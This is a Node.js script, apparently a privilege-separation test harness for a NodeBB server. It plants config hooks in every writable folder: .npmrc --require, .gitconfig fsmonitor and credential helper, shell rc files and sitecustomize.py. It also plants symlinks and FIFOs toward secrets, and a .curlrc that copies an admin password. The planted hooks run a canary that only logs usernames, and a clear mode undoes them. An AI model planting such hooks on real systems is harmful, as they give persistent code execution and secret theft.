// plant.mjs hooks|names|replace <seed> <teller>: runs as an unprivileged user and plants files wherever it can. Names are read from stdin.
// It prints each planted path, and each moved one as "aside <path>". `plant.mjs clear` reads these lines and undoes them.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, realpathSync, renameSync, rmSync, rmdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const [what, seed, teller] = process.argv.slice(2);
const names = readFileSync(0, 'utf8').split('\n').filter(Boolean);
const asideOf = (path) => join(dirname(path), `.attack-aside-${path.slice(dirname(path).length + 1)}`);

if (what === 'clear') {
  for (const line of names.reverse())
    clear(line);
  process.exit();
}

// What was planted may have been replaced or deleted since.
function clear(line) {
  const path = line.replace(/^aside /, '');
  try {
    if (path !== line) {
      if (lstatSync(asideOf(path), { throwIfNoEntry: false })) {
        rmSync(path, { recursive: true, force: true });
        renameSync(asideOf(path), path);
      }
    } else if (lstatSync(path).isDirectory()) {
      rmdirSync(path);
    } else {
      rmSync(path);
    }
  } catch (error) {
    if (!['ENOENT', 'ENOTEMPTY', 'EACCES', 'EPERM', 'ENOTDIR'].includes(error.code))
      throw error;
  }
}

const folders = ['/', '/run', '/run/lock', '/tmp', '/dev/shm'].flatMap((start) => {
  try {
    return execFileSync('find', [start, '-xdev', '(', '-path', '/proc', '-o', '-path', '/sys', '-o', '-name', '_cacache', '-o', '-name', '.git', ')', '-prune', '-o', '-type', 'd', '-writable', '-print'], { stdio: ['ignore', 'pipe', 'ignore'] }).toString().split('\n');
  } catch (error) {
    return error.stdout.toString().split('\n'); // find reports an error for unreadable folders.
  }
}).filter((folder) => folder && !folder.startsWith('/run/systemd'));
const digit = (text) => createHash('sha256').update(`${seed} ${text}`).digest()[0];
// A few stand for the thousands of nested folders in a release; above those, all are included.
const shallow = [...new Set(folders)].filter((folder) => !/\/node_modules\/(?!\.bin$)/.test(folder) && (folder.split('/').length <= 7 || digit(folder) < 4));
const choice = (text, list) => list[digit(text) % list.length];

const hooks = {
  '.curlrc': 'url = "file:///etc/nodebb-infra/secrets/admin-password"\noutput = "/etc/ssh/sshrc"\n',
  '.wgetrc': 'output_document = /etc/ssh/sshrc\n',
  '.npmrc': `script-shell=${teller}\nnode-options=--require ${teller}.cjs\nprefix=/srv/other\ncache=/srv/other/uploads\nlogs-dir=/srv/other/logs\n`,
  '.gitconfig': `[core]\n\tfsmonitor = ${teller}\n\tsshCommand = ${teller}\n\thooksPath = ${dirname(teller)}\n\tpager = ${teller}\n[alias]\n\tinit = !${teller}\n[credential]\n\thelper = ${teller}\n`,
  '.bashrc': `${teller}\n`, '.bash_profile': `${teller}\n`, '.profile': `${teller}\n`, '.bash_login': `${teller}\n`, '.inputrc': '"\\C-m": "owned"\n',
  '.redisclirc': ':set hints\n', '.netrc': 'default login attack password attack\n', '.env': `NODE_OPTIONS=--require ${teller}.cjs\n`, '.node_repl_history': '', '.perldb': `system("${teller}");\n`,
  '.openssl.cnf': 'openssl_conf = attack\n', '.noderc': '', 'sitecustomize.py': `import os; os.system("${teller}")\n`, '.pythonrc': '', '.mailrc': '', '.selected_editor': '', '.nanorc': '', '.dircolors': '', '.hushlogin': '',
};
const targets = ['/srv/other/uploads', '/srv/other', '/root/attack-canary', '/root/attack-canary/file', '/srv/other/file', '/etc/nodebb-infra/secrets', '/etc/nodebb-infra/secrets/admin-password', '/etc/ssh/sshrc', '/etc/cron.d/attack', '/etc/cron.d'];

function plant(path, make) {
  if (lstatSync(path, { throwIfNoEntry: false }))
    return;
  try {
    make();
    console.log(path);
  } catch (error) {
    if (!['EACCES', 'EPERM', 'EROFS', 'ENOENT', 'EEXIST', 'ENOTDIR'].includes(error.code))
      throw error;
  }
}

function plantHooks(folder) {
  for (const [name, text] of Object.entries(hooks))
    plant(join(folder, name), () => writeFileSync(join(folder, name), text));
  plant(join(folder, '.config'), () => mkdirSync(join(folder, '.config')));
  plant(join(folder, '.config/git'), () => mkdirSync(join(folder, '.config/git')));
  plant(join(folder, '.config/git/config'), () => writeFileSync(join(folder, '.config/git/config'), hooks['.gitconfig']));
}

function plantNames(folder) {
  for (const name of names) {
    const path = join(folder, name);
    const target = choice(path, [...targets, 'pipe']);
    // A FIFO in a release would only block the forum itself.
    if (target === 'pipe' && !folder.startsWith('/opt/'))
      plant(path, () => execFileSync('mkfifo', ['-m', '0666', path], { stdio: 'ignore' }));
    else
      plant(path, () => symlinkSync(target === 'pipe' ? targets[0] : target, path));
  }
}

// Moves the folder aside and puts a symlink in its place.
function replace(folder) {
  if (/^\/(opt|tmp|run|dev)\b|\/(redis|npm)$|appendonlydir|^\/var\/tmp|^\/var\/log|^\/var\/lib\/nginx/.test(folder) && folder !== '/etc/redis')
    return;
  for (const name of readdirSync(folder).filter((child) => !child.startsWith('.'))) {
    const path = join(folder, name), aside = asideOf(path);
    const isFolder = lstatSync(path).isDirectory();
    try {
      renameSync(path, aside);
      symlinkSync(isFolder ? choice(path, ['/etc/nodebb-infra/secrets', '/srv/other/uploads', '/root/attack-canary']) : choice(path, ['/root/attack-canary/file', '/srv/other/file']), path);
      console.log(`aside ${path}`);
    } catch (error) {
      if (!['EACCES', 'EPERM', 'EROFS'].includes(error.code))
        throw error;
    }
  }
}

const work = { hooks: plantHooks, names: plantNames, replace }[what];
for (const folder of shallow) {
  // It, or a parent, may just have been moved aside.
  if (existsSync(folder) && realpathSync(folder) === folder)
    work(folder);
}
if (what === 'hooks' && !existsSync(teller)) {
  writeFileSync(teller, '#!/bin/sh\nid -un >>"/var/tmp/attack-told.$(id -u)"\nexit 0\n');
  writeFileSync(`${teller}.cjs`, `require('child_process').execFileSync(${JSON.stringify(teller)});\n`);
  chmodSync(teller, 0o755);
  console.log(teller);
  console.log(`${teller}.cjs`);
}
